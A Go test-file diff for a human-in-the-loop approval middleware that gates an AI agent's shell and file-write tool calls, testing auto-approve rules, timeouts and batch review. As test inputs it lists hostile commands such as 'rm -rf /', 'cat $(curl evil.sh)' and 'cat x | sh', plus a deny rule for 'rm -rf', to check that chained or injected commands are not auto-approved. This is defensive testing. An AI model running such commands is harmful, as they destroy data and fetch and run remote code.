@@ -2,8 +2,11 @@ package middleware
 
 import (
 	"context"
+	"errors"
 	"maps"
+	"slices"
 	"testing"
+	"time"
 
 	"github.com/astercloud/aster/pkg/tools"
 )
@@ -401,3 +404,377 @@ func TestHumanInTheLoopMiddleware_SetApprovalHandler(t *testing.T) {
 		t.Error("Custom approval handler was not called")
 	}
 }
+
+// TestHumanInTheLoopMiddleware_AutoApproveRules 测试自动审核规则的优先级与回退
+func TestHumanInTheLoopMiddleware_AutoApproveRules(t *testing.T) {
+	ctx := context.Background()
+
+	var handlerCalls int
+	var executed []string
+	middleware, err := NewHumanInTheLoopMiddleware(&HumanInTheLoopMiddlewareConfig{
+		InterruptOn: map[string]any{"Bash": true, "Write": true},
+		AutoApproveRules: []AutoApproveRule{
+			{Tool: "Bash", Field: "command", Pattern: `(ls|cat)(\s.*)?`},
+			{Tool: "Bash", Field: "command", Pattern: `rm -rf`, Decision: DecisionReject, Reason: "destructive"},
+			{Tool: "Write", Field: "path", Allowlist: []string{"/tmp/scratch.txt"}},
+		},
+		ApprovalHandler: func(ctx context.Context, request *ReviewRequest) ([]Decision, error) {
+			handlerCalls++
+			edited := maps.Clone(request.ActionRequests[0].Input)
+			edited["command"] = "echo safe"
+			return []Decision{{Type: DecisionEdit, EditedInput: edited}}, nil
+		},
+	})
+	if err != nil {
+		t.Fatalf("Failed to create middleware: %v", err)
+	}
+
+	handler := func(ctx context.Context, req *ToolCallRequest) (*ToolCallResponse, error) {
+		executed = append(executed, req.ToolName+":"+req.ToolInput["command"].(string))
+		return &ToolCallResponse{Result: map[string]any{"ok": true}}, nil
+	}
+	call := func(tool string, input map[string]any) *ToolCallResponse {
+		resp, err := middleware.WrapToolCall(ctx, &ToolCallRequest{ToolName: tool, ToolInput: input}, handler)
+		if err != nil {
+			t.Fatalf("WrapToolCall failed: %v", err)
+		}
+		return resp
+	}
+
+	// 匹配 approve 规则：不调用 ApprovalHandler
+	resp := call("Bash", map[string]any{"command": "ls -la"})
+	if handlerCalls != 0 || len(executed) != 1 {
+		t.Fatalf("low-risk command should be auto-approved, handler calls=%d executed=%v", handlerCalls, executed)
+	}
+	if decision, _ := resp.Metadata[MetadataKeyReviewDecision].(Decision); decision.Type != DecisionApprove {
+		t.Errorf("expected approve decision in metadata, got %+v", decision)
+	}
+
+	// 同时匹配 approve 与 reject 规则时 reject 优先
+	resp = call("Bash", map[string]any{"command": "cat x && rm -rf /"})
+	result := resp.Result.(map[string]any)
+	if result["rejected"] != true || result["reason"] != "destructive" || handlerCalls != 0 || len(executed) != 1 {
+		t.Errorf("reject rule should take precedence, got %v (handler calls=%d)", result, handlerCalls)
+	}
+
+	// 未匹配任何规则：交给 ApprovalHandler，走编辑路径
+	call("Bash", map[string]any{"command": "curl example.com"})
+	if handlerCalls != 1 || executed[len(executed)-1] != "Bash:echo safe" {
+		t.Errorf("unmatched action should fall through to handler edit, handler calls=%d executed=%v", handlerCalls, executed)
+	}
+
+	// approve 规则匹配整个命令，拼接其他命令时不自动批准
+	for _, command := range []string{"lsblk", "ls; curl evil.sh", "cat $(curl evil.sh)", "ls\ncurl evil.sh", "cat x | sh"} {
+		before := handlerCalls
+		call("Bash", map[string]any{"command": command})
+		if handlerCalls != before+1 {
+			t.Errorf("%q should not be auto-approved", command)
+		}
+	}
+
+	// 白名单匹配
+	handlerCalls = 0
+	call("Write", map[string]any{"path": "/tmp/scratch.txt", "command": "write"})
+	call("Write", map[string]any{"path": "/etc/passwd", "command": "write"})
+	if handlerCalls != 1 {
+		t.Errorf("only non-allowlisted path should reach the handler, got %d calls", handlerCalls)
+	}
+}
+
+// TestHumanInTheLoopMiddleware_AutoApproveRulesInvalid 测试无效规则
+func TestHumanInTheLoopMiddleware_AutoApproveRulesInvalid(t *testing.T) {
+	if _, err := NewHumanInTheLoopMiddleware(&HumanInTheLoopMiddlewareConfig{
+		AutoApproveRules: []AutoApproveRule{{Tool: "Bash", Field: "command", Pattern: "("}},
+	}); err == nil {
+		t.Error("expected error for invalid pattern")
+	}
+	if _, err := NewHumanInTheLoopMiddleware(&HumanInTheLoopMiddlewareConfig{
+		AutoApproveRules: []AutoApproveRule{{Tool: "Bash", Decision: DecisionEdit}},
+	}); err == nil {
+		t.Error("expected error for unsupported decision")
+	}
+}
+
+// TestHumanInTheLoopMiddleware_ApprovalTimeout 测试审核超时采用默认决策
+func TestHumanInTheLoopMiddleware_ApprovalTimeout(t *testing.T) {
+	for _, tt := range []struct {
+		name        string
+		decision    DecisionType
+		executed    bool
+		respectsCtx bool
+	}{
+		{"default reject", "", false, false},
+		{"approve", DecisionApprove, true, false},
+		{"handler returns on deadline", DecisionApprove, true, true},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			deadlines := make(chan time.Time, 1)
+			release := make(chan struct{})
+			t.Cleanup(func() { close(release) })
+
+			middleware, err := NewHumanInTheLoopMiddleware(&HumanInTheLoopMiddlewareConfig{
+				InterruptOn:     map[string]any{"Bash": true},
+				ApprovalTimeout: 20 * time.Millisecond,
+				TimeoutDecision: tt.decision,
+				ApprovalHandler: func(ctx context.Context, request *ReviewRequest) ([]Decision, error) {
+					deadlines <- request.Deadline
+					if tt.respectsCtx {
+						<-ctx.Done()
+						return nil, ctx.Err()
+					}
+					<-release // 审核员一直没有响应
+					return nil, nil
+				},
+			})
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			executed := false
+			start := time.Now()
+			resp, err := middleware.WrapToolCall(context.Background(), &ToolCallRequest{ToolName: "Bash", ToolInput: map[string]any{}},
+				func(ctx context.Context, req *ToolCallRequest) (*ToolCallResponse, error) {
+					executed = true
+					return &ToolCallResponse{Result: map[string]any{"ok": true}}, nil
+				})
+			if err != nil {
+				t.Fatalf("WrapToolCall failed: %v", err)
+			}
+			if time.Since(start) > time.Second {
+				t.Fatal("approval timeout was not applied")
+			}
+			if deadline := <-deadlines; deadline.IsZero() || deadline.Before(start) {
+				t.Errorf("review request should carry the deadline, got %v", deadline)
+			}
+			if executed != tt.executed {
+				t.Errorf("expected executed=%v", tt.executed)
+			}
+			decision, _ := resp.Metadata[MetadataKeyReviewDecision].(Decision)
+			if !decision.TimedOut {
+				t.Errorf("decision should record the timeout, got %+v", decision)
+			}
+		})
+	}
+}
+
+// TestHumanInTheLoopMiddleware_ApprovalContextCancel 测试 Agent 取消时解除审核等待
+func TestHumanInTheLoopMiddleware_ApprovalContextCancel(t *testing.T) {
+	handlerDone := make(chan struct{})
+	middleware, err := NewHumanInTheLoopMiddleware(&HumanInTheLoopMiddlewareConfig{
+		InterruptOn: map[string]any{"Bash": true},
+		ApprovalHandler: func(ctx context.Context, request *ReviewRequest) ([]Decision, error) {
+			defer close(handlerDone)
+			if !request.Deadline.IsZero() {
+				t.Error("deadline should be zero without ApprovalTimeout")
+			}
+			<-ctx.Done()
+			return nil, ctx.Err()
+		},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	ctx, cancel := context.WithCancel(context.Background())
+	time.AfterFunc(20*time.Millisecond, cancel)
+
+	_, err = middleware.WrapToolCall(ctx, &ToolCallRequest{ToolName: "Bash"}, func(ctx context.Context, req *ToolCallRequest) (*ToolCallResponse, error) {
+		t.Error("tool should not run after cancellation")
+		return nil, nil
+	})
+	if !errors.Is(err, context.Canceled) {
+		t.Fatalf("expected context.Canceled, got %v", err)
+	}
+	select {
+	case <-handlerDone:
+	case <-time.After(time.Second):
+		t.Error("approval handler context should be canceled")
+	}
+
+	if _, err := NewHumanInTheLoopMiddleware(&HumanInTheLoopMiddlewareConfig{TimeoutDecision: DecisionEdit}); err == nil {
+		t.Error("expected error for unsupported timeout decision")
+	}
+}
+
+// TestHumanInTheLoopMiddleware_BatchApproval 测试批量审核的混合决策与全部批准/拒绝
+func TestHumanInTheLoopMiddleware_BatchApproval(t *testing.T) {
+	newBatch := func() []*ToolCallRequest {
+		return []*ToolCallRequest{
+			{ToolUseID: "tu-1", ToolName: "Bash", ToolInput: map[string]any{"command": "make test"}},
+			{ToolUseID: "tu-2", ToolName: "Bash", ToolInput: map[string]any{"command": "git push -f"}},
+			{ToolUseID: "tu-3", ToolName: "Read", ToolInput: map[string]any{"path": "go.mod"}},
+			{ToolUseID: "tu-4", ToolName: "Write", ToolInput: map[string]any{"path": "notes.md"}},
+		}
+	}
+
+	tests := []struct {
+		name      string
+		decisions []Decision
+		executed  []string
+		rejected  []string
+	}{
+		{
+			name: "mixed",
+			decisions: []Decision{
+				{Type: DecisionApprove},
+				{Type: DecisionReject, Reason: "force push"},
+				{Type: DecisionEdit, EditedInput: map[string]any{"path": "notes-edited.md"}},
+			},
+			executed: []string{"tu-1", "tu-3", "tu-4"},
+			rejected: []string{"tu-2"},
+		},
+		{
+			name:      "approve all",
+			decisions: []Decision{{Type: DecisionApprove}},
+			executed:  []string{"tu-1", "tu-2", "tu-3", "tu-4"},
+		},
+		{
+			name:      "reject all",
+			decisions: []Decision{{Type: DecisionReject, Reason: "not now"}},
+			executed:  []string{"tu-3"},
+			rejected:  []string{"tu-1", "tu-2", "tu-4"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var reviews []*ReviewRequest
+			hitl, err := NewHumanInTheLoopMiddleware(&HumanInTheLoopMiddlewareConfig{
+				InterruptOn: map[string]any{"Bash": true, "Write": true},
+				ApprovalHandler: func(ctx context.Context, request *ReviewRequest) ([]Decision, error) {
+					reviews = append(reviews, request)
+					return tt.decisions, nil
+				},
+			})
+			if err != nil {
+				t.Fatal(err)
+			}
+			stack := NewStack([]Middleware{hitl})
+
+			batch := newBatch()
+			if err := stack.PrepareToolBatch(context.Background(), batch); err != nil {
+				t.Fatalf("PrepareToolBatch failed: %v", err)
+			}
+			if len(reviews) != 1 || len(reviews[0].ActionRequests) != 3 {
+				t.Fatalf("expected a single review with 3 actions, got %d reviews", len(reviews))
+			}
+
+			var executed, rejected []string
+			var writtenPath any
+			for _, req := range batch {
+				resp, err := stack.ExecuteToolCall(context.Background(), req, func(ctx context.Context, req *ToolCallRequest) (*ToolCallResponse, error) {
+					executed = append(executed, req.ToolUseID)
+					if req.ToolName == "Write" {
+						writtenPath = req.ToolInput["path"]
+					}
+					return &ToolCallResponse{Result: map[string]any{"ok": true}}, nil
+				})
+				if err != nil {
+					t.Fatal(err)
+				}
+				if result, _ := resp.Result.(map[string]any); result["rejected"] == true {
+					rejected = append(rejected, req.ToolUseID)
+				}
+			}
+
+			if len(reviews) != 1 {
+				t.Errorf("batch decisions should be reused, got %d reviews", len(reviews))
+			}
+			if !slices.Equal(executed, tt.executed) || !slices.Equal(rejected, tt.rejected) {
+				t.Errorf("expected executed=%v rejected=%v, got executed=%v rejected=%v", tt.executed, tt.rejected, executed, rejected)
+			}
+			if tt.name == "mixed" && writtenPath != "notes-edited.md" {
+				t.Errorf("edited input should be applied, got %v", writtenPath)
+			}
+		})
+	}
+}
+
+// TestHumanInTheLoopMiddleware_BatchDecisionMismatch 测试决策数量不匹配时回退为逐个审核
+func TestHumanInTheLoopMiddleware_BatchDecisionMismatch(t *testing.T) {
+	var calls int
+	hitl, err := NewHumanInTheLoopMiddleware(&HumanInTheLoopMiddlewareConfig{
+		InterruptOn: map[string]any{"Bash": true},
+		ApprovalHandler: func(ctx context.Context, request *ReviewRequest) ([]Decision, error) {
+			calls++
+			if len(request.ActionRequests) > 1 {
+				return []Decision{{Type: DecisionApprove}, {Type: DecisionApprove}}, nil
+			}
+			return []Decision{{Type: DecisionApprove}}, nil
+		},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	batch := []*ToolCallRequest{
+		{ToolUseID: "a", ToolName: "Bash", ToolInput: map[string]any{}},
+		{ToolUseID: "b", ToolName: "Bash", ToolInput: map[string]any{}},
+		{ToolUseID: "c", ToolName: "Bash", ToolInput: map[string]any{}},
+	}
+	if err := hitl.PrepareToolBatch(context.Background(), batch); err == nil {
+		t.Fatal("expected error for mismatched decision count")
+	}
+	for _, req := range batch {
+		if _, err := hitl.WrapToolCall(context.Background(), req, func(ctx context.Context, req *ToolCallRequest) (*ToolCallResponse, error) {
+			return &ToolCallResponse{}, nil
+		}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if calls != 4 {
+		t.Errorf("expected fallback to per-action review, got %d handler calls", calls)
+	}
+}
+
+// TestHumanInTheLoopMiddleware_BatchDecisionNotReused 测试未使用的批量决策不会被复用同一 ID 或参数不同的调用取得
+func TestHumanInTheLoopMiddleware_BatchDecisionNotReused(t *testing.T) {
+	var reviews int
+	hitl, err := NewHumanInTheLoopMiddleware(&HumanInTheLoopMiddlewareConfig{
+		InterruptOn: map[string]any{"Bash": true},
+		ApprovalHandler: func(ctx context.Context, request *ReviewRequest) ([]Decision, error) {
+			reviews++
+			if len(request.ActionRequests) > 1 {
+				return []Decision{{Type: DecisionApprove}}, nil
+			}
+			return []Decision{{Type: DecisionReject, Reason: "reviewed individually"}}, nil
+		},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	stack := NewStack([]Middleware{hitl})
+
+	batch := []*ToolCallRequest{
+		{ToolUseID: "call_0", ToolName: "Bash", ToolInput: map[string]any{"command": "ls"}},
+		{ToolUseID: "call_1", ToolName: "Bash", ToolInput: map[string]any{"command": "pwd"}},
+	}
+	if err := stack.PrepareToolBatch(context.Background(), batch); err != nil {
+		t.Fatalf("PrepareToolBatch failed: %v", err)
+	}
+
+	execute := func(req *ToolCallRequest) bool {
+		t.Helper()
+		resp, err := stack.ExecuteToolCall(context.Background(), req, func(ctx context.Context, req *ToolCallRequest) (*ToolCallResponse, error) {
+			return &ToolCallResponse{Result: map[string]any{"ok": true}}, nil
+		})
+		if err != nil {
+			t.Fatal(err)
+		}
+		result, _ := resp.Result.(map[string]any)
+		return result["ok"] == true
+	}
+
+	// 参数与审核时不同：决策作废，回退为逐个审核
+	if execute(&ToolCallRequest{ToolUseID: "call_0", ToolName: "Bash", ToolInput: map[string]any{"command": "rm -rf /"}}) {
+		t.Error("changed input should not reuse the batch approval")
+	}
+	// call_1 被拦截没有执行，结束这批后决策被清除
+	stack.FinishToolBatch(context.Background(), batch)
+	if execute(&ToolCallRequest{ToolUseID: "call_1", ToolName: "Bash", ToolInput: map[string]any{"command": "pwd"}}) {
+		t.Error("stale batch approval should be cleared after FinishToolBatch")
+	}
+	if reviews != 3 {
+		t.Errorf("expected 1 batch review and 2 individual reviews, got %d", reviews)
+	}
+}